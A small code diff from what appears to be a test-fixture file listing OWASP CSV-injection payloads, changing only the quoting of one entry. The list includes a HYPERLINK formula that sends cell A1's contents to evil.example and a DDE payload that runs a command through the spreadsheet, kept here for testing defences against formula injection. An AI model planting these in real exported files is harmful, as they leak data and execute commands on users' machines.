@@ -21,7 +21,7 @@ export const UNICODE_EDGES = [
 /** OWASP CSV-injection payloads, each starting with a character a spreadsheet evaluates. */
 export const FORMULA_PAYLOADS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
-  '+cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
   '-2+3',
   '@SUM(1)',
   '\t=1+1',
